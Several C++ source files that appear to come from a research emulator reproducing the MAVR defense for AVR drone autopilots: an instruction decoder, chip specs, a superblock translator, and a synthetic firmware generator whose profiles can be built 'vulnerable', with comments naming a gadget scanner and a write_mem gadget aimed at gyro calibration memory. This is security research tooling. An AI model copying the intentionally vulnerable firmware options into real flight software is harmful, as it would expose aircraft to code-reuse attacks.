        in.bit = static_cast<std::uint8_t>(w & 7);
        return in;
      }
      if ((w & 0xFE08) == 0xFE00) {  // SBRS
        in.op = Op::Sbrs;
        in.rd = field_d5(w);
        in.bit = static_cast<std::uint8_t>(w & 7);
        return in;
      }
      return Instr{};
    default:
      return Instr{};
  }
}

}  // namespace mavr::avr
