// Microcontroller descriptions for the two AVR parts the MAVR platform uses
// (paper §II, §V-A): the ATmega2560 application processor on the ArduPilot
// Mega 2.5 and the ATmega1284P master processor.
#pragma once

#include <cstdint>
#include <string_view>

namespace mavr::avr {

/// Architectural constants for data-space layout shared by AVR megas.
/// The register file and I/O are memory mapped into the data space —
/// the property the paper's write_mem gadget exploits (§IV-C).
inline constexpr std::uint32_t kRegFileBase = 0x0000;   // r0..r31
inline constexpr std::uint32_t kRegFileSize = 32;
inline constexpr std::uint32_t kIoBase = 0x0020;        // IN/OUT space
inline constexpr std::uint32_t kIoSize = 64;
inline constexpr std::uint32_t kExtIoBase = 0x0060;     // LDS/STS only
inline constexpr std::uint32_t kExtIoEnd = 0x0200;

/// I/O-space addresses (use with IN/OUT; data-space address = io + 0x20).
inline constexpr std::uint8_t kIoRampz = 0x3B;
inline constexpr std::uint8_t kIoEind = 0x3C;
inline constexpr std::uint8_t kIoSpl = 0x3D;
inline constexpr std::uint8_t kIoSph = 0x3E;
inline constexpr std::uint8_t kIoSreg = 0x3F;

/// Data-space addresses of the CPU core registers.
inline constexpr std::uint16_t kAddrRampz = 0x5B;
inline constexpr std::uint16_t kAddrEind = 0x5C;
inline constexpr std::uint16_t kAddrSpl = 0x5D;
inline constexpr std::uint16_t kAddrSph = 0x5E;
inline constexpr std::uint16_t kAddrSreg = 0x5F;

/// Static description of one AVR microcontroller model.
struct McuSpec {
  std::string_view name;
  std::uint32_t flash_bytes;      ///< program memory size (Harvard, word addressed)
  std::uint32_t sram_bytes;       ///< internal SRAM size
  std::uint32_t sram_base;        ///< first SRAM data-space address
  std::uint32_t eeprom_bytes;     ///< persistent configuration memory
  std::uint8_t pc_push_bytes;     ///< bytes CALL pushes (3 when flash > 128 KiB)
  std::uint32_t flash_page_bytes; ///< bootloader programming page size
  std::uint32_t flash_endurance;  ///< guaranteed program/erase cycles (§VI-A: 10,000)
  std::uint32_t clock_hz;         ///< core clock (APM 2.5 runs at 16 MHz)

  std::uint32_t flash_words() const { return flash_bytes / 2; }
  std::uint32_t ramend() const { return sram_base + sram_bytes - 1; }
  std::uint32_t data_space_bytes() const { return ramend() + 1; }
};

/// ATmega2560 — the APM 2.5 application processor (paper §II-A/B):
/// 256 KiB flash (128 Kwords), 8 KiB SRAM, 17-bit PC so calls push 3 bytes.
inline const McuSpec& atmega2560() {
  static constexpr McuSpec spec{
      .name = "ATmega2560",
      .flash_bytes = 256 * 1024,
      .sram_bytes = 8 * 1024,
      .sram_base = 0x0200,
      .eeprom_bytes = 4 * 1024,
      .pc_push_bytes = 3,
      .flash_page_bytes = 256,
      .flash_endurance = 10000,
      .clock_hz = 16'000'000,
  };
  return spec;
}

/// ATmega1284P — the MAVR master processor (paper §V-A2, §VI-A):
/// 128 KiB flash, 16 KiB SRAM, 16-bit PC so calls push 2 bytes.
inline const McuSpec& atmega1284p() {
  static constexpr McuSpec spec{
      .name = "ATmega1284P",
      .flash_bytes = 128 * 1024,
      .sram_bytes = 16 * 1024,
      .sram_base = 0x0100,
      .eeprom_bytes = 4 * 1024,
      .pc_push_bytes = 2,
      .flash_page_bytes = 256,
      .flash_endurance = 10000,
      .clock_hz = 16'000'000,
  };
  return spec;
}

}  // namespace mavr::avr
