// Superblock translator: classifies decoded instructions into tier
// micro-ops with static cycle prefix sums and pre-masked branch targets.
// Classification is conservative — anything whose data effects cannot be
// proven equivalent to a plain-RAM access at translate time either tests
// the dispatch map at run time (and side-exits to the interpreter) or
// ends the block before the instruction.
#include "avr/tier.hpp"

#include "avr/decode.hpp"
#include "avr/instr.hpp"
#include "avr/io.hpp"
#include "avr/mcu.hpp"

namespace mavr::avr {

namespace {

/// Block size cap. Generated firmware bodies rarely exceed ~30 straight
/// instructions between control transfers; the cap bounds worst_cycles so
/// the dispatcher's deadline guard stays tight (a huge bound would force
/// needless single-stepping near timer deadlines).
constexpr std::uint32_t kMaxBlockOps = 64;

/// Packed (first, second) kind key for the pair-fusion table.
constexpr std::uint16_t pk(TierOpKind x, TierOpKind y) {
  return static_cast<std::uint16_t>((static_cast<std::uint16_t>(x) << 8) |
                                    static_cast<std::uint16_t>(y));
}

/// Fusion table: the fused kind for an adjacent pure-op pair, or kNop as
/// the "no fusion" sentinel (no pattern ever *produces* kNop). Patterns
/// come from measured pair frequencies in generated firmware; every
/// member is side-effect-free against the I/O bus, so a fused op can
/// never need a mid-op exit.
TierOpKind pair_kind(TierOpKind x, TierOpKind y) {
  using K = TierOpKind;
  switch (pk(x, y)) {
    case pk(K::kLdsRam, K::kLdsRam): return K::kLds2;
    case pk(K::kStsRam, K::kStsRam): return K::kSts2;
    case pk(K::kLdi, K::kLdi):       return K::kLdi2;
    case pk(K::kLdi, K::kAdd):       return K::kLdiAdd;
    case pk(K::kLdsRam, K::kAdd):    return K::kLdsAdd;
    case pk(K::kLdsRam, K::kSub):    return K::kLdsSub;
    case pk(K::kAdd, K::kStsRam):    return K::kAddSts;
    case pk(K::kRor, K::kLdi):       return K::kRorLdi;
    case pk(K::kAdd, K::kAdc):       return K::kAddAdc;
    case pk(K::kAdd, K::kAdd):       return K::kAddAdd;
    case pk(K::kSub, K::kSbc):       return K::kSubSbc;
    case pk(K::kSubi, K::kSbci):     return K::kSubiSbci;
    case pk(K::kAsr, K::kRor):       return K::kAsrRor;
    case pk(K::kRor, K::kAsr):       return K::kRorAsr;
    case pk(K::kLdsRam, K::kStsRam): return K::kLdsSts;
    case pk(K::kStsRam, K::kLdsRam): return K::kStsLds;
    default: return K::kNop;
  }
}

/// Packs the second op's operands into the first's spare fields. The
/// fused op keeps the first op's pc_abs/cyc_before/ins_before — it can
/// never exit mid-op, so downstream bookkeeping is untouched.
TierOp fuse(const TierOp& x, const TierOp& y, TierOpKind f) {
  using K = TierOpKind;
  TierOp m = x;
  m.kind = f;
  switch (f) {
    case K::kLds2:
    case K::kSts2:
    case K::kLdi2:
    case K::kSubiSbci:
    case K::kLdsSts:
    case K::kStsLds:
      m.b = y.a;
      m.target = y.k;
      break;
    case K::kLdiAdd:
    case K::kLdsAdd:
    case K::kLdsSub:
      m.b = y.a;
      m.target = y.b;
      break;
    case K::kAddSts:
      m.k = y.k;
      m.target = y.a;
      break;
    case K::kRorLdi:
      m.b = y.a;
      m.k = y.k;
      break;
    case K::kAddAdc:
    case K::kAddAdd:
    case K::kSubSbc:
      m.k = static_cast<std::uint16_t>(y.a | (y.b << 8));
      break;
    case K::kAsrRor:
    case K::kRorAsr:
      m.b = y.a;
      break;
    default:
      break;
  }
  return m;
}

/// Peephole pass over a freshly translated block (it is the last one in
/// the arena, so compaction can shrink the arena in place). Greedy
/// left-to-right: each op fuses with at most one successor.
void fuse_pairs(std::vector<TierOp>& arena, TierBlock& blk,
                TierStats& stats) {
  TierOp* const ops = arena.data() + blk.first_op;
  const std::uint32_t n = blk.num_ops;
  std::uint32_t w = 0, i = 0;
  while (i < n) {
    if (i + 1 < n) {
      const TierOpKind f = pair_kind(ops[i].kind, ops[i + 1].kind);
      if (f != TierOpKind::kNop) {
        ops[w++] = fuse(ops[i], ops[i + 1], f);
        ++stats.fused_pairs;
        i += 2;
        continue;
      }
    }
    ops[w++] = ops[i++];
  }
  blk.num_ops = w;
  arena.resize(blk.first_op + w);
}

}  // namespace

const TierBlock& SuperblockCache::translate(const ProgramMemory& flash,
                                            const std::uint8_t* dispatch,
                                            std::uint32_t head_pc,
                                            std::uint32_t pc_mask,
                                            std::uint32_t data_size,
                                            std::uint8_t push_bytes) {
  TierBlock blk;
  blk.head_pc = head_pc;
  blk.first_op = static_cast<std::uint32_t>(arena.size());

  std::uint32_t pc = head_pc;
  std::uint32_t cyc_before = 0;
  std::uint32_t worst_term = 0;
  std::uint32_t worst_cond = 0;  ///< worst prefix ending in a taken cond exit
  bool open = true;

  // Straight-line op: appended with the running prefix sums, which then
  // advance past it. Terminators append without advancing (the block ends).
  const auto emit = [&](TierOp op) {
    op.pc_abs = pc;
    op.cyc_before = cyc_before;
    // Every emitted op retires exactly one instruction at this stage;
    // the fusion pass below merges pairs and keeps the prefix counts.
    op.ins_before = static_cast<std::uint16_t>(blk.num_ops);
    arena.push_back(op);
    ++blk.num_ops;
  };
  const auto straight = [&](TierOpKind kind, const Instr& in,
                            std::uint8_t cost, std::uint16_t k_override,
                            std::uint8_t a_override) {
    TierOp op;
    op.kind = kind;
    op.a = a_override;
    op.b = kind == TierOpKind::kBset || kind == TierOpKind::kBclr ||
                   kind == TierOpKind::kBst || kind == TierOpKind::kBld ||
                   kind == TierOpKind::kSbi || kind == TierOpKind::kCbi
               ? in.bit
               : in.rr;
    op.cyc = cost;
    op.k = k_override;
    // Successor pc, so a dispatched-I/O op can retire mid-block and exit
    // at its own instruction boundary instead of side-stepping.
    op.target = (pc + in.size_words) & pc_mask;
    emit(op);
    cyc_before += cost;
    pc = op.target;
  };
  // Followed unconditional jump: RJMP/JMP with a static target retires as
  // a do-nothing op (the pc move is folded into translation) and the
  // block continues at the target — straight-line regions span jumps.
  const auto follow = [&](std::uint8_t cost, std::uint32_t target) {
    TierOp op;
    op.kind = TierOpKind::kNop;
    op.cyc = cost;
    op.target = target;
    emit(op);
    cyc_before += cost;
    pc = target;
  };
  // Followed static call: pushes the return address and continues into
  // the callee, inlining its body into the block up to the size cap. The
  // pushed address also lands on a translate-time return stack so a later
  // RET can be followed as a predicted continuation (kCondRet).
  std::uint32_t ret_stack[kMaxBlockOps];
  std::uint32_t ret_depth = 0;
  const auto call_push = [&](std::uint8_t cost, std::uint32_t target,
                             std::uint32_t ret) {
    TierOp op;
    op.kind = TierOpKind::kCallPush;
    op.cyc = cost;
    op.target = target;
    op.target2 = ret;
    emit(op);
    ret_stack[ret_depth++] = ret;
    cyc_before += cost;
    pc = target;
  };
  // Conditional mid-block exit: taken leaves for `taken` through the full
  // block-exit sequence, not-taken (1 cycle) continues inside the block.
  const auto cond = [&](TierOpKind kind, const Instr& in,
                        std::uint32_t taken) {
    TierOp op;
    op.kind = kind;
    op.a = in.rd;
    op.b = kind == TierOpKind::kCondCpse ? in.rr : in.bit;
    op.cyc = 2;
    op.k = in.k;
    op.target = taken;
    op.target2 = (pc + in.size_words) & pc_mask;
    emit(op);
    if (cyc_before + 2 > worst_cond) worst_cond = cyc_before + 2;
    cyc_before += 1;
    pc = op.target2;
  };
  // Terminator with the taken-path cycle count in `cyc`.
  const auto term = [&](TierOpKind kind, const Instr& in, std::uint8_t cyc,
                        std::uint32_t target, std::uint32_t target2,
                        std::uint8_t worst) {
    TierOp op;
    op.kind = kind;
    op.a = in.rd;
    op.b = in.bit;
    op.cyc = cyc;
    op.k = in.k;
    op.target = target;
    op.target2 = target2;
    emit(op);
    worst_term = worst;
    open = false;
  };
  // Ends the block *before* the instruction at `pc`: a pseudo-exit that
  // retires nothing and lets the dispatcher re-enter (usually via a
  // single-step fallback for an untranslatable head).
  const auto end_before = [&] {
    TierOp op;
    op.kind = TierOpKind::kTermFall;
    op.target = pc;
    emit(op);
    worst_term = 0;
    open = false;
  };

  while (open) {
    if (blk.num_ops + 1 >= kMaxBlockOps) {
      end_before();
      break;
    }
    const Instr in =
        decode(flash.word(pc), flash.word((pc + 1) & pc_mask));
    const std::uint32_t next = (pc + in.size_words) & pc_mask;
    const std::uint32_t rel =
        (pc + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask;
    // Skip target for CPSE/SBRC/SBRS/SBIC/SBIS, resolved at translate
    // time: flash is immutable for the life of this translation (any
    // reprogramming bumps the generation and invalidates the block).
    const std::uint32_t skip =
        (next + (is_two_word(flash.word(next)) ? 2 : 1)) & pc_mask;
    const std::uint8_t call_cyc = push_bytes == 3 ? 4 : 3;

    switch (in.op) {
      // --- untranslatable heads: leave them to the interpreter ---------
      case Op::Invalid:   // faults with FaultInfo bookkeeping
      case Op::Break:     // stops the core
        end_before();
        break;

      case Op::Nop:
      case Op::Sleep:
      case Op::Wdr:
      case Op::Spm:
        straight(TierOpKind::kNop, in, 1, in.k, in.rd);
        break;

      // --- ALU ----------------------------------------------------------
      case Op::Add: straight(TierOpKind::kAdd, in, 1, in.k, in.rd); break;
      case Op::Adc: straight(TierOpKind::kAdc, in, 1, in.k, in.rd); break;
      case Op::Sub: straight(TierOpKind::kSub, in, 1, in.k, in.rd); break;
      case Op::Sbc: straight(TierOpKind::kSbc, in, 1, in.k, in.rd); break;
      case Op::And: straight(TierOpKind::kAnd, in, 1, in.k, in.rd); break;
      case Op::Or:  straight(TierOpKind::kOr, in, 1, in.k, in.rd); break;
      case Op::Eor: straight(TierOpKind::kEor, in, 1, in.k, in.rd); break;
      case Op::Mov: straight(TierOpKind::kMov, in, 1, in.k, in.rd); break;
      case Op::Movw: straight(TierOpKind::kMovw, in, 1, in.k, in.rd); break;
      case Op::Mul: straight(TierOpKind::kMul, in, 2, in.k, in.rd); break;
      case Op::Cp:  straight(TierOpKind::kCp, in, 1, in.k, in.rd); break;
      case Op::Cpc: straight(TierOpKind::kCpc, in, 1, in.k, in.rd); break;
      case Op::Ldi: straight(TierOpKind::kLdi, in, 1, in.k, in.rd); break;
      case Op::Subi: straight(TierOpKind::kSubi, in, 1, in.k, in.rd); break;
      case Op::Sbci: straight(TierOpKind::kSbci, in, 1, in.k, in.rd); break;
      case Op::Andi: straight(TierOpKind::kAndi, in, 1, in.k, in.rd); break;
      case Op::Ori: straight(TierOpKind::kOri, in, 1, in.k, in.rd); break;
      case Op::Cpi: straight(TierOpKind::kCpi, in, 1, in.k, in.rd); break;
      case Op::Com: straight(TierOpKind::kCom, in, 1, in.k, in.rd); break;
      case Op::Neg: straight(TierOpKind::kNeg, in, 1, in.k, in.rd); break;
      case Op::Inc: straight(TierOpKind::kInc, in, 1, in.k, in.rd); break;
      case Op::Dec: straight(TierOpKind::kDec, in, 1, in.k, in.rd); break;
      case Op::Swap: straight(TierOpKind::kSwap, in, 1, in.k, in.rd); break;
      case Op::Asr: straight(TierOpKind::kAsr, in, 1, in.k, in.rd); break;
      case Op::Lsr: straight(TierOpKind::kLsr, in, 1, in.k, in.rd); break;
      case Op::Ror: straight(TierOpKind::kRor, in, 1, in.k, in.rd); break;
      case Op::Adiw: straight(TierOpKind::kAdiw, in, 2, in.k, in.rd); break;
      case Op::Sbiw: straight(TierOpKind::kSbiw, in, 2, in.k, in.rd); break;

      // --- SREG bit ops -------------------------------------------------
      case Op::Bset:
        if (in.bit == kI) {
          // SEI re-enables interrupt delivery: the interpreter polls the
          // lines right after this instruction, so the block must end
          // here for the post-block poll to land at the same boundary.
          term(TierOpKind::kTermBsetI, in, 1, next, next, 1);
        } else {
          straight(TierOpKind::kBset, in, 1, in.k, in.rd);
        }
        break;
      case Op::Bclr: straight(TierOpKind::kBclr, in, 1, in.k, in.rd); break;
      case Op::Bst: straight(TierOpKind::kBst, in, 1, in.k, in.rd); break;
      case Op::Bld: straight(TierOpKind::kBld, in, 1, in.k, in.rd); break;

      // --- static-address data transfer ---------------------------------
      case Op::Lds:
        if (in.k == kAddrSreg) {
          straight(TierOpKind::kLdsSreg, in, 2, in.k, in.rd);
        } else if (in.k < kExtIoEnd) {
          // Dispatch resolved at translate time: an unhandled I/O-region
          // address is plain RAM (and fusable). sync() invalidates on any
          // later handler registration.
          straight((dispatch[in.k] & IoBus::kHandlesRead)
                       ? TierOpKind::kLdsLow
                       : TierOpKind::kLdsRam,
                   in, 2, in.k, in.rd);
        } else if (in.k < data_size) {
          straight(TierOpKind::kLdsRam, in, 2, in.k, in.rd);
        } else {
          end_before();  // wraps through the data-space modulo
        }
        break;
      case Op::Sts:
        if (in.k == kAddrSreg) {
          end_before();  // wholesale SREG write: interpreter keeps it exact
        } else if (in.k < kExtIoEnd) {
          straight((dispatch[in.k] & IoBus::kHandlesWrite)
                       ? TierOpKind::kStsLow
                       : TierOpKind::kStsRam,
                   in, 2, in.k, in.rd);
        } else if (in.k < data_size) {
          straight(TierOpKind::kStsRam, in, 2, in.k, in.rd);
        } else {
          end_before();
        }
        break;
      case Op::In: {
        const std::uint16_t addr =
            static_cast<std::uint16_t>(kIoBase + in.k);
        // An IN from an unhandled port is a 1-cycle plain-RAM load; reuse
        // kLdsRam (op bodies never read the static cycle cost).
        straight(addr == kAddrSreg ? TierOpKind::kInSreg
                 : (dispatch[addr] & IoBus::kHandlesRead)
                     ? TierOpKind::kIn
                     : TierOpKind::kLdsRam,
                 in, 1, addr, in.rd);
        break;
      }
      case Op::Out:
        if (kIoBase + in.k == kAddrSreg) {
          // Can set the I flag — same block-boundary rule as SEI.
          term(TierOpKind::kTermOutSreg, in, 1, next, next, 1);
        } else {
          const std::uint16_t addr =
              static_cast<std::uint16_t>(kIoBase + in.k);
          straight((dispatch[addr] & IoBus::kHandlesWrite)
                       ? TierOpKind::kOut
                       : TierOpKind::kStsRam,
                   in, 1, addr, in.rd);
        }
        break;
      case Op::Sbi:
        straight(TierOpKind::kSbi, in, 2,
                 static_cast<std::uint16_t>(kIoBase + in.k), in.rd);
        break;
      case Op::Cbi:
        straight(TierOpKind::kCbi, in, 2,
                 static_cast<std::uint16_t>(kIoBase + in.k), in.rd);
        break;

      // --- pointer-addressed data transfer ------------------------------
      case Op::LdX: straight(TierOpKind::kLdX, in, 2, in.k, in.rd); break;
      case Op::LdXInc: straight(TierOpKind::kLdXInc, in, 2, in.k, in.rd); break;
      case Op::LdXDec: straight(TierOpKind::kLdXDec, in, 2, in.k, in.rd); break;
      case Op::LdYInc: straight(TierOpKind::kLdYInc, in, 2, in.k, in.rd); break;
      case Op::LdYDec: straight(TierOpKind::kLdYDec, in, 2, in.k, in.rd); break;
      case Op::LddY: straight(TierOpKind::kLddY, in, 2, in.k, in.rd); break;
      case Op::LdZInc: straight(TierOpKind::kLdZInc, in, 2, in.k, in.rd); break;
      case Op::LdZDec: straight(TierOpKind::kLdZDec, in, 2, in.k, in.rd); break;
      case Op::LddZ: straight(TierOpKind::kLddZ, in, 2, in.k, in.rd); break;
      case Op::StX: straight(TierOpKind::kStX, in, 2, in.k, in.rd); break;
      case Op::StXInc: straight(TierOpKind::kStXInc, in, 2, in.k, in.rd); break;
      case Op::StXDec: straight(TierOpKind::kStXDec, in, 2, in.k, in.rd); break;
      case Op::StYInc: straight(TierOpKind::kStYInc, in, 2, in.k, in.rd); break;
      case Op::StYDec: straight(TierOpKind::kStYDec, in, 2, in.k, in.rd); break;
      case Op::StdY: straight(TierOpKind::kStdY, in, 2, in.k, in.rd); break;
      case Op::StZInc: straight(TierOpKind::kStZInc, in, 2, in.k, in.rd); break;
      case Op::StZDec: straight(TierOpKind::kStZDec, in, 2, in.k, in.rd); break;
      case Op::StdZ: straight(TierOpKind::kStdZ, in, 2, in.k, in.rd); break;
      case Op::LpmR0: straight(TierOpKind::kLpmR0, in, 3, in.k, in.rd); break;
      case Op::Lpm: straight(TierOpKind::kLpm, in, 3, in.k, in.rd); break;
      case Op::LpmInc: straight(TierOpKind::kLpmInc, in, 3, in.k, in.rd); break;
      case Op::ElpmR0: straight(TierOpKind::kElpmR0, in, 3, in.k, in.rd); break;
      case Op::Elpm: straight(TierOpKind::kElpm, in, 3, in.k, in.rd); break;
      case Op::ElpmInc:
        straight(TierOpKind::kElpmInc, in, 3, in.k, in.rd);
        break;
      case Op::Push: straight(TierOpKind::kPush, in, 2, in.k, in.rd); break;
      case Op::Pop: straight(TierOpKind::kPop, in, 2, in.k, in.rd); break;

      // --- control flow -------------------------------------------------
      case Op::Rjmp: follow(2, rel); break;
      case Op::Jmp:
        follow(3, static_cast<std::uint32_t>(in.target) & pc_mask);
        break;
      case Op::Ijmp: term(TierOpKind::kTermIjmp, in, 2, 0, next, 2); break;
      case Op::Eijmp: term(TierOpKind::kTermEijmp, in, 2, 0, next, 2); break;
      case Op::Rcall: call_push(call_cyc, rel, next); break;
      case Op::Call:
        call_push(static_cast<std::uint8_t>(call_cyc + 1),
                  static_cast<std::uint32_t>(in.target) & pc_mask, next);
        break;
      case Op::Icall:
        term(TierOpKind::kTermIcall, in, call_cyc, 0, next, call_cyc);
        break;
      case Op::Eicall:
        term(TierOpKind::kTermEicall, in, 4, 0, next, 4);
        break;
      case Op::Ret:
        if (ret_depth > 0) {
          // The matching call was followed in this very block, so the
          // popped address is known unless the callee unbalanced the
          // stack; the executor verifies and exits on a mismatch. Both
          // paths cost the full RET latency, folded into the prefix sums
          // like a not-taken conditional.
          const std::uint8_t ret_cyc = push_bytes == 3 ? 5 : 4;
          TierOp op;
          op.kind = TierOpKind::kCondRet;
          op.cyc = ret_cyc;
          op.target = ret_stack[--ret_depth];
          op.target2 = op.target;
          emit(op);
          if (cyc_before + ret_cyc > worst_cond) {
            worst_cond = cyc_before + ret_cyc;
          }
          cyc_before += ret_cyc;
          pc = op.target;
        } else {
          term(TierOpKind::kTermRet, in, push_bytes == 3 ? 5 : 4, 0, 0,
               push_bytes == 3 ? 5 : 4);
        }
        break;
      case Op::Reti:
        term(TierOpKind::kTermReti, in, push_bytes == 3 ? 5 : 4, 0, 0,
             push_bytes == 3 ? 5 : 4);
        break;
      case Op::Brbs: cond(TierOpKind::kCondBrbs, in, rel); break;
      case Op::Brbc: cond(TierOpKind::kCondBrbc, in, rel); break;
      case Op::Cpse: cond(TierOpKind::kCondCpse, in, skip); break;
      case Op::Sbrc: cond(TierOpKind::kCondSbrc, in, skip); break;
      case Op::Sbrs: cond(TierOpKind::kCondSbrs, in, skip); break;
      case Op::Sbic: {
        Instr io = in;
        io.k = static_cast<std::uint16_t>(kIoBase + in.k);
        cond(TierOpKind::kCondSbic, io, skip);
        break;
      }
      case Op::Sbis: {
        Instr io = in;
        io.k = static_cast<std::uint16_t>(kIoBase + in.k);
        cond(TierOpKind::kCondSbis, io, skip);
        break;
      }
    }
  }

  fuse_pairs(arena, blk, stats);

  blk.worst_cycles = cyc_before + worst_term;
  if (worst_cond > blk.worst_cycles) blk.worst_cycles = worst_cond;
  blk.interp_only = blk.num_ops == 1 &&
                    arena[blk.first_op].kind == TierOpKind::kTermFall &&
                    arena[blk.first_op].target == head_pc;
  ++stats.blocks_translated;
  map[head_pc] = (epoch << 32) | static_cast<std::uint32_t>(blocks.size());
  blocks.push_back(blk);
  return blocks.back();
}

}  // namespace mavr::avr
