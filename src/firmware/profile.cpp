#include "firmware/profile.hpp"

namespace mavr::firmware {

AppProfile arduplane(bool vulnerable) {
  AppProfile p;
  p.name = "Arduplane";
  p.seed = 0xA12D01;
  p.function_count = 917;   // Table I
  p.filler_body_words = 107; // undershoot; pad calibrates to Table III
  p.canonical_save_fns = 10;
  p.task_count = 48;
  p.target_image_bytes = 221294;  // Table III, MAVR column
  p.vulnerable = vulnerable;
  return p;
}

AppProfile arducopter(bool vulnerable) {
  AppProfile p;
  p.name = "Arducopter";
  p.seed = 0xA12D02;
  p.function_count = 1030;
  p.filler_body_words = 106;
  p.canonical_save_fns = 14;
  p.task_count = 52;
  p.target_image_bytes = 244292;
  p.vulnerable = vulnerable;
  return p;
}

AppProfile ardurover(bool vulnerable) {
  AppProfile p;
  p.name = "Ardurover";
  p.seed = 0xA12D03;
  p.function_count = 800;
  p.filler_body_words = 97;
  p.canonical_save_fns = 9;
  p.task_count = 44;
  p.target_image_bytes = 177556;
  p.vulnerable = vulnerable;
  return p;
}

AppProfile testapp(bool vulnerable) {
  AppProfile p;
  p.name = "TestApp";
  p.seed = 0x7E57;
  p.function_count = 96;
  p.filler_body_words = 28;
  p.canonical_save_fns = 2;
  p.task_count = 12;
  p.target_image_bytes = 0;  // no calibration: keep it small and fast
  p.vulnerable = vulnerable;
  return p;
}

}  // namespace mavr::firmware
