#include "firmware/generator.hpp"

#include <cstdio>

#include "support/rng.hpp"

namespace mavr::firmware {

using toolchain::AsmFunction;
using toolchain::CodeRef;
using toolchain::DataBuilder;
using toolchain::FunctionBuilder;
using toolchain::Label;
using toolchain::LinkInput;
using toolchain::ToolchainOptions;

namespace {

// Callee-saved registers in the canonical order the linker's
// -mcall-prologues blob expects.
std::vector<std::uint8_t> canonical_set() {
  std::vector<std::uint8_t> r;
  for (std::uint8_t i = 2; i <= 17; ++i) r.push_back(i);
  r.push_back(28);
  r.push_back(29);
  return r;
}

std::string numbered(const char* stem, std::uint32_t i) {
  char buf[48];
  std::snprintf(buf, sizeof buf, "%s_%03u", stem, i);
  return buf;
}

/// Emits exactly `words` words of deterministic, side-effect-bounded ALU
/// code operating on r18..r25 (caller-saved) plus loads/stores confined to
/// the g_scratch area. The mixture mimics compiled expression code so the
/// gadget scanner sees a realistic instruction distribution.
void emit_alu_block(FunctionBuilder& fb, support::Rng& rng,
                    std::uint32_t words) {
  auto reg = [&] { return static_cast<std::uint8_t>(18 + rng.below(8)); };
  std::uint32_t left = words;
  while (left > 0) {
    const std::uint64_t pick = rng.below(100);
    if (pick < 18) {
      fb.ldi(reg(), static_cast<std::uint8_t>(rng.below(256)));
      left -= 1;
    } else if (pick < 40) {
      const std::uint8_t rd = reg(), rr = reg();
      switch (rng.below(6)) {
        case 0: fb.add(rd, rr); break;
        case 1: fb.sub(rd, rr); break;
        case 2: fb.and_(rd, rr); break;
        case 3: fb.or_(rd, rr); break;
        case 4: fb.eor(rd, rr); break;
        default: fb.mov(rd, rr); break;
      }
      left -= 1;
    } else if (pick < 58) {
      const std::uint8_t rd = reg();
      switch (rng.below(7)) {
        case 0: fb.inc(rd); break;
        case 1: fb.dec(rd); break;
        case 2: fb.com(rd); break;
        case 3: fb.swap(rd); break;
        case 4: fb.lsr(rd); break;
        case 5: fb.asr(rd); break;
        default: fb.ror(rd); break;
      }
      left -= 1;
    } else if (pick < 66) {
      fb.cpi(reg(), static_cast<std::uint8_t>(rng.below(256)));
      left -= 1;
    } else if (pick < 72 && left >= 2) {
      fb.subi(reg(), static_cast<std::uint8_t>(rng.below(64)));
      fb.sbci(reg(), 0);
      left -= 2;
    } else if (pick < 86 && left >= 2) {
      const std::uint16_t off = static_cast<std::uint16_t>(rng.below(64));
      if (rng.chance(0.5)) {
        fb.lds_sym(reg(), Globals::kGyro);  // cheap read of live state
      } else {
        fb.lds_sym(reg(), "g_scratch", off);
      }
      left -= 2;
    } else if (pick < 94 && left >= 2) {
      fb.sts_sym("g_scratch", reg(), static_cast<std::uint16_t>(rng.below(64)));
      left -= 2;
    } else if (left >= 6 && rng.chance(0.25)) {
      // Small bounded loop: ldi r23,k ; body ; dec ; brne.
      const std::uint8_t iters = static_cast<std::uint8_t>(2 + rng.below(3));
      fb.ldi(23, iters);
      Label top = fb.make_label();
      fb.bind(top);
      std::uint32_t body = std::min<std::uint32_t>(left - 3, 3);
      while (body-- > 0) {
        const std::uint8_t rd = static_cast<std::uint8_t>(18 + rng.below(5));
        fb.add(rd, rd);
        --left;
      }
      fb.dec(23);
      fb.brne(top);
      left -= 3;
    } else {
      fb.nop();
      left -= 1;
    }
  }
}

/// Folds a task's result into the globally observable accumulator so that
/// a mispatched function corrupts state the tests and telemetry can see.
void emit_mix_into_acc(FunctionBuilder& fb) {
  fb.lds_sym(24, "g_task_acc");
  fb.eor(24, 18);
  fb.add(24, 20);
  fb.sts_sym("g_task_acc", 24);
}

/// Inline prologue/epilogue used by the cross-jump cluster functions so
/// their item sizes are fixed (fixed_offset_of requirement). Mirrors the
/// linker's inline lowering exactly.
void emit_raw_prologue(FunctionBuilder& fb,
                       const std::vector<std::uint8_t>& saves,
                       std::uint8_t frame) {
  for (std::uint8_t r : saves) fb.push(r);
  fb.in(28, avr::kIoSpl);
  fb.in(29, avr::kIoSph);
  fb.sbiw(28, frame);
  fb.in(0, avr::kIoSreg);
  fb.out(avr::kIoSph, 29);
  fb.out(avr::kIoSreg, 0);
  fb.out(avr::kIoSpl, 28);
}

void emit_raw_epilogue(FunctionBuilder& fb,
                       const std::vector<std::uint8_t>& saves,
                       std::uint8_t frame) {
  fb.adiw(28, frame);
  fb.in(0, avr::kIoSreg);
  fb.out(avr::kIoSph, 29);
  fb.out(avr::kIoSreg, 0);
  fb.out(avr::kIoSpl, 28);
  for (auto it = saves.rbegin(); it != saves.rend(); ++it) fb.pop(*it);
  fb.ret();
}

// ---------------------------------------------------------------------------
// Core autopilot functions
// ---------------------------------------------------------------------------

AsmFunction build_main() {
  FunctionBuilder fb("main");
  fb.raw(toolchain::enc_bset_bclr(avr::Op::Bset, avr::kI));  // sei
  Label loop = fb.make_label();
  fb.bind(loop);
  fb.call("sens_read");
  fb.call("ctrl_update");
  fb.call("servo_write");
  fb.call("mav_poll");
  fb.call("task_step");
  fb.call("telemetry_step");
  fb.call("feed_master");
  fb.rjmp(loop);
  return fb.take();
}

AsmFunction build_sens_read() {
  FunctionBuilder fb("sens_read");
  // Gyro: raw reading from the sensor front-end plus the calibration
  // offsets in RAM — the "configuration registers stored in memory" the
  // paper names as the attack's persistent target (§IV-C).
  for (int axis = 0; axis < 3; ++axis) {
    const std::uint16_t io = BoardIo::kGyroX + 2 * axis;
    const std::uint16_t off = static_cast<std::uint16_t>(2 * axis);
    fb.lds(24, io);
    fb.lds(25, static_cast<std::uint16_t>(io + 1));
    fb.lds_sym(18, Globals::kGyroCal, off);
    fb.lds_sym(19, Globals::kGyroCal, static_cast<std::uint16_t>(off + 1));
    fb.add(24, 18);
    fb.adc(25, 19);
    fb.sts_sym(Globals::kGyro, 24, off);
    fb.sts_sym(Globals::kGyro, 25, static_cast<std::uint16_t>(off + 1));
  }
  for (int axis = 0; axis < 3; ++axis) {
